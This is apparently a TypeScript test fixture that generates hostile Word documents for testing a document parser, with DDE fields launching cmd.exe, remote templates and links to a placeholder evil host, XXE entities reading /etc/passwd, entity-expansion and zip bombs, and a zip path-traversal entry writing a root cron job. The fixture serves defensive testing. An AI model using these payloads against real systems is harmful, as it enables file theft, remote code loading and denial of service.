import { deflateRawSync } from 'node:zlib';
import { type HostileEntry, hostileZip } from '../hostile-zips.ts';
import { field, namespaces, paragraph, run, type WordFile, wordFile } from '../word.ts';

/* Word files that have brought down readers, or would load, run or send something; each asks for {{client_full_name}} where it can. */

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const EVIL = 'http://evil.invalid';
const WORDS = paragraph('Client full name: Mrs Amara Okafor') + paragraph('Dear {{client_full_name}},');

const word = (file: Omit<WordFile, 'body'> & { body?: string }): Buffer => wordFile({ ...file, body: WORDS + (file.body ?? '') });
const external = (id: string, type: string, target: string) => ({ id, type, target, external: true });
const picture = (attributes: string): string =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip ${attributes}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

const types = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${MAIN}"/></Types>`;
const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`;
const document = (body: string): string => `<w:document ${namespaces}><w:body>${body}</w:body></w:document>`;

/** A file of these entries around its body, as no writer would put it. */
const raw = (body: string | Buffer, more: HostileEntry[] = [], end: Parameters<typeof hostileZip>[1] = {}): Buffer =>
  hostileZip(
    [{ name: '[Content_Types].xml', data: types }, { name: '_rels/.rels', data: rels }, { name: 'word/document.xml', data: body }, ...more],
    end,
  );
const ZEROS = 70 * 1024 * 1024;
const nested = (levels: number): Buffer => {
  let zip = hostileZip([{ name: 'a.xml', data: Buffer.alloc(1024 * 1024) }]);
  for (let level = 0; level < levels; level++) zip = hostileZip(Array.from({ length: 8 }, (_, n) => ({ name: `${n}.zip`, data: zip })));
  return zip;
};

/** By what is wrong with each, made on demand. */
export const hostileWordFiles: Readonly<Record<string, () => Buffer>> = {
  'macros under the name of a document': () =>
    word({
      mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
      parts: { 'word/vbaProject.bin': 'Attribute VB_Name = "AutoOpen"', 'word/vbaData.xml': '<wne:vbaSuppData xmlns:wne="x"/>' },
      types: { 'word/vbaProject.bin': 'application/vnd.ms-office.vbaProject', 'word/vbaData.xml': 'application/vnd.ms-word.vbaData+xml' },
      relationships: [{ id: 'rV', type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' }],
    }),
  'macros that call themselves a picture': () =>
    word({
      body: picture('r:embed="rV"'),
      parts: { 'word/media/a.png': 'Attribute VB_Name' },
      types: { 'word/media/a.png': 'application/vnd.ms-office.vbaProject' },
      relationships: [{ id: 'rV', type: 'image', target: 'media/a.png' }],
    }),
  'an embedded program': () =>
    word({
      body: '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rO"/></w:object></w:r></w:p>',
      parts: { 'word/embeddings/o.bin': '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1MZ' },
      types: { 'word/embeddings/o.bin': 'application/vnd.openxmlformats-officedocument.oleObject' },
      relationships: [{ id: 'rO', type: 'oleObject', target: 'embeddings/o.bin' }],
    }),
  'a linked object': () =>
    word({
      body: '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rO" UpdateMode="Always"/></w:object></w:r></w:p>',
      relationships: [external('rO', 'oleObject', `mhtml:${EVIL}/x.html!x-usc:${EVIL}/x.html`)],
    }),
  'an ActiveX control': () =>
    word({
      body: '<w:p><w:r><w:pict><w:control r:id="rC" w:name="x"/></w:pict></w:r></w:p>',
      parts: { 'word/activeX/a.xml': '<ax:ocx xmlns:ax="x"/>' },
      types: { 'word/activeX/a.xml': 'application/vnd.ms-office.activeX+xml' },
      relationships: [{ id: 'rC', type: 'control', target: 'activeX/a.xml' }],
    }),
  'a field that starts a program': () => word({ body: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ') }),
  'a simple field that starts a program': () =>
    word({ body: `<w:p><w:fldSimple w:instr="DDE cmd /k">${run('shown')}</w:fldSimple></w:p>` }),
  'fields that load files': () =>
    word({
      body:
        field(' INCLUDETEXT "/etc/passwd" ') + field(` INCLUDEPICTURE "${EVIL}/x.png" \\d `) + field(` LINK Word.Document.8 "${EVIL}" `),
    }),
  'a template elsewhere': () =>
    word({
      relationships: [{ id: 'rS', type: 'settings', target: 'settings.xml' }],
      parts: {
        'word/settings.xml': `<w:settings ${namespaces}><w:attachedTemplate r:id="rT"/></w:settings>`,
        'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rT" Type="${OFFICE}/attachedTemplate" Target="${EVIL}/t.dotm" TargetMode="External"/></Relationships>`,
      },
      types: { 'word/settings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml' },
    }),
  'a mail merge with a database': () =>
    word({
      relationships: [{ id: 'rS', type: 'settings', target: 'settings.xml' }],
      parts: {
        'word/settings.xml': `<w:settings ${namespaces}><w:mailMerge><w:dataType w:val="odbc"/><w:connectString w:val="DSN=x"/><w:query w:val="SELECT 1"/></w:mailMerge></w:settings>`,
      },
      types: { 'word/settings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml' },
    }),
  'pictures elsewhere': () =>
    word({
      body: `${picture('r:link="rP"')}${picture('r:link="rF"')}<w:p><w:r><w:pict><v:shape><v:imagedata src="${EVIL}/x.png" o:href="${EVIL}/y.png"/></v:shape></w:pict></w:r></w:p>`,
      relationships: [external('rP', 'image', `${EVIL}/z.png`), external('rF', 'image', 'file:///etc/passwd')],
    }),
  'links to files, shares and scripts': () =>
    word({
      body: ['rF', 'rS', 'rJ'].map((id) => `<w:p><w:hyperlink r:id="${id}">${run('open')}</w:hyperlink></w:p>`).join(''),
      relationships: [
        external('rF', 'hyperlink', 'file:///etc/passwd'),
        external('rS', 'hyperlink', '\\\\evil.invalid\\share'),
        external('rJ', 'hyperlink', 'javascript:alert(1)'),
      ],
    }),
  'a chunk of a web page': () =>
    word({
      body: '<w:altChunk r:id="rC"/>',
      parts: { 'word/chunk.htm': '<script>alert(1)</script>' },
      types: { 'word/chunk.htm': 'text/html' },
      relationships: [{ id: 'rC', type: 'aFChunk', target: 'chunk.htm' }],
    }),
  'a document elsewhere as a part': () =>
    word({ body: '<w:subDoc r:id="rD"/>', relationships: [external('rD', 'subDocument', `${EVIL}/d.docx`)] }),
  'a frame of another page': () =>
    word({
      relationships: [{ id: 'rW', type: 'webSettings', target: 'webSettings.xml' }],
      parts: {
        'word/webSettings.xml': `<w:webSettings ${namespaces}><w:frameset><w:frame><w:sourceFileName r:id="rX"/></w:frame></w:frameset></w:webSettings>`,
        'word/_rels/webSettings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rX" Type="${OFFICE}/frame" Target="${EVIL}/f" TargetMode="External"/></Relationships>`,
      },
      types: { 'word/webSettings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml' },
    }),
  'what nothing leads to': () => word({ parts: { 'evil.exe': 'MZ\x90\0' } }),
  'an entity of a file': () =>
    raw(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${document('<w:p><w:r><w:t>&a;</w:t></w:r></w:p>')}`),
  'an entity of another host': () => raw(`<?xml version="1.0"?><!DOCTYPE x SYSTEM "${EVIL}/x.dtd">${document('')}`),
  'a thousand million laughs': () => {
    const entities = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
    return raw(`<!DOCTYPE x [<!ENTITY l0 "ha">${entities}]>${document('<w:p><w:r><w:t>&l10;</w:t></w:r></w:p>')}`);
  },
  'a body in UTF-16 with an entity': () => raw(Buffer.from(`\ufeff<!DOCTYPE x [<!ENTITY a "b">]>${document('')}`, 'utf16le')),
  'another encoding by its own word': () => raw(`<?xml version="1.0" encoding="UTF-7"?>${document('+ADw-w:p/+AD4-')}`),
  'a body of 70 MiB from 70 KiB': () =>
    raw('', [{ name: 'word/big.xml', packed: deflateRawSync(Buffer.alloc(ZEROS)), size: ZEROS, checksum: 0 }]),
  'a body that is larger than it says': () =>
    hostileZip([
      { name: '[Content_Types].xml', data: types },
      { name: '_rels/.rels', data: rels },
      { name: 'word/document.xml', packed: deflateRawSync(Buffer.alloc(ZEROS, 32)), size: 100 },
    ]),
  'archives in archives': () => raw(document(WORDS), [{ name: 'word/media/a.zip', data: nested(4) }]),
  '60,000 controls, one in the other': () =>
    raw(document(`${'<w:sdt><w:sdtContent>'.repeat(60_000)}${'</w:sdtContent></w:sdt>'.repeat(60_000)}`)),
  '400,000 paragraphs': () => raw(document('<w:p><w:r><w:t>a</w:t></w:r></w:p>'.repeat(400_000))),
  'two million empty paragraphs': () => raw(document('<w:p/>'.repeat(2_000_000))),
  'tables in tables, 3,000 deep': () =>
    raw(document(`${'<w:tbl><w:tr><w:tc>'.repeat(3_000)}<w:p/>${'</w:tc></w:tr></w:tbl>'.repeat(3_000)}`)),
  'a table 60,000 columns wide': () => raw(document(`<w:tbl><w:tr>${'<w:tc><w:p/></w:tc>'.repeat(60_000)}</w:tr></w:tbl>`)),
  'a cell that spans two thousand million columns': () =>
    raw(
      document(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc></w:tr></w:tbl>',
      ),
    ),
  'one word of 20 million letters': () => raw(document(`<w:p><w:r><w:t>${'a'.repeat(2e7)}</w:t></w:r></w:p>`)),
  'an attribute of ten million letters': () => raw(document(`<w:p w:rsidR="${'a'.repeat(1e7)}"/>`)),
  'an element that isn’t ended': () => raw(document('<w:p>')),
  'elements that cross': () => raw(document('<w:p><w:r></w:p></w:r>')),
  'a part twice': () => raw(document(WORDS), [{ name: 'word/document.xml', data: document('<w:p/>') }]),
  'a part twice but for its case': () => raw(document(WORDS), [{ name: 'Word/Document.xml', data: document('<w:p/>') }]),
  'two names in one entry': () => raw(document(WORDS), [{ name: 'safe.xml', data: '<a/>', local: { name: 'evil.xml' } }]),
  'a name that climbs': () => raw(document(WORDS), [{ name: '../../etc/cron.d/x', data: '* * * * * root sh' }]),
  'a name with a drive': () => raw(document(WORDS), [{ name: 'C:\\Windows\\x.dll', data: 'MZ' }]),
  'a link as an entry': () => raw(document(WORDS), [{ name: 'word/l', data: '/etc/passwd', attributes: 0xa1ff0000 }]),
  'an entry with a password': () => raw(document(WORDS), [{ name: 'word/p.xml', data: 'x', flags: 1 }]),
  'a wrong checksum': () => raw(document(WORDS), [{ name: 'word/c.xml', data: '<a/>', checksum: 1 }]),
  'fewer entries than there are': () => raw(document(WORDS), [], { count: 1 }),
  'a shell script in front': () => raw(document(WORDS), [], { before: Buffer.from('#!/bin/sh\nexit\n'), start: 15 }),
  'a PDF behind it': () => raw(document(WORDS), [], { after: Buffer.from('%PDF-1.7\n%%EOF') }),
  'relations in a circle': () =>
    word({
      relationships: [{ id: 'rH', type: 'header', target: 'h.xml' }],
      parts: {
        'word/h.xml': `<w:hdr ${namespaces}/>`,
        'word/_rels/h.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="${OFFICE}/header" Target="h.xml"/></Relationships>`,
      },
      types: { 'word/h.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml' },
    }),
  'tags that would be code': () =>
    word({
      body: ['{{constructor}}', '{{__proto__}}', '{{#each}}{{/each}}', '{{process.exit(1)}}', '${7*7}', '{%raw%}']
        .map((tag) => paragraph(tag))
        .join(''),
    }),
};
